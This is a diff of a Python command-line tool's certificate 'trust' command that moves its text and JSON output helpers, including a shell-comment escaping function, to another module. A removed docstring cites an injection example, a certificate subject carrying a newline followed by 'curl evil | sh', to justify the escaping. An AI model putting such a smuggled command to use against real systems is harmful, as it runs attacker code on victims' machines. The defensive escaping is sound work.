@@ -50,6 +50,7 @@ def trust_command(notary_dir: Path, server: str | None, root_file: Path | None, 
       sudo certkit trust --hosts                    # also add 127.0.0.1 notary-server to /etc/hosts
     """
     from certkit import trust
+    from certkit.render.trust import trust_json, trust_text
 
     parsed = trust.parse_server(server if server is not None else trust.DEFAULT_SERVER)
     root = root_file if root_file is not None else trust.layout_root(notary_dir)
@@ -58,60 +59,9 @@ def trust_command(notary_dir: Path, server: str | None, root_file: Path | None, 
     result = trust.install_trust(root, parsed, home=home_dir, docker_config=docker_dir, now=options.utc_now(),
                                  edit_hosts=edit_hosts, hosts_file=hosts_file)
     if as_json:
-        click.echo(json.dumps(_as_json(result), indent=2))
+        click.echo(json.dumps(trust_json(result), indent=2))
     elif not quiet:
-        click.echo(_as_text(result))
+        click.echo(trust_text(result))
     elif result.hosts_line is not None:  # the one warning worth a cron mail
         click.echo(f"certkit: warning: {result.server.host} does not resolve; add to /etc/hosts: {result.hosts_line}",
                    err=True)
-
-
-def shell_comment(text: str) -> str:
-    """``text`` made safe inside a ``#`` comment of eval'ed output: a comment ends only at a newline,
-    so every control character (newline, CR, ...) is written as a visible escape (``\\n``, ``\\x1b``).
-
-    A root certificate's subject, a file name or a host come from outside: a subject
-    "CN=x<newline>curl evil | sh" would otherwise become a command of `eval "$(certkit trust)"`.
-    """
-    return "".join(ch if ch.isprintable() or ch == " " else ch.encode("unicode_escape").decode("ascii") for ch in text)
-
-
-def _as_text(result: TrustResult) -> str:
-    # Every line but the exports is a shell comment, so `eval "$(certkit trust)"` works; the
-    # exports' values are shlex-quoted (certkit.trust) and the comments escaped (shell_comment).
-    lines = [
-        f"# root CA {result.root_subject} (until {result.root_not_after:%Y-%m-%d}) from {result.root}",
-        f"# docker: {result.docker_ca.path} ({result.docker_ca.action})",
-        f"# notary: {result.notary_root.path} ({result.notary_root.action})",
-        f"# notary: {result.notary_config.path} ({result.notary_config.action}): "
-        f"remote_server.url={result.server.url}, root_ca={result.notary_root.path}",
-    ]
-    if result.hosts_file is not None:
-        lines.append(f"# hosts: {result.hosts_file.path} ({result.hosts_file.action})")
-    if result.hosts_line is not None:
-        lines.append(f"# {result.server.host} does not resolve; add this line to /etc/hosts "
-                     "(or run `certkit trust --hosts` as root):")
-        lines.append(f"#   {result.hosts_line}")
-    lines = [shell_comment(line) for line in lines]
-    lines.extend(result.exports)
-    return "\n".join(lines)
-
-
-def _as_json(result: TrustResult) -> dict[str, Any]:
-    def change(item: Any) -> dict[str, str] | None:
-        return None if item is None else {"path": str(item.path), "action": item.action}
-
-    return {
-        "server": result.server.url,
-        "root": str(result.root),
-        "root_subject": result.root_subject,
-        "root_not_after": result.root_not_after.isoformat(),
-        "docker_ca": change(result.docker_ca),
-        "notary_root": change(result.notary_root),
-        "notary_config": change(result.notary_config),
-        "resolves": result.resolves,
-        "hosts_line": result.hosts_line,
-        "hosts_file": change(result.hosts_file),
-        "exports": result.exports,
-        "changed": result.changed,
-    }
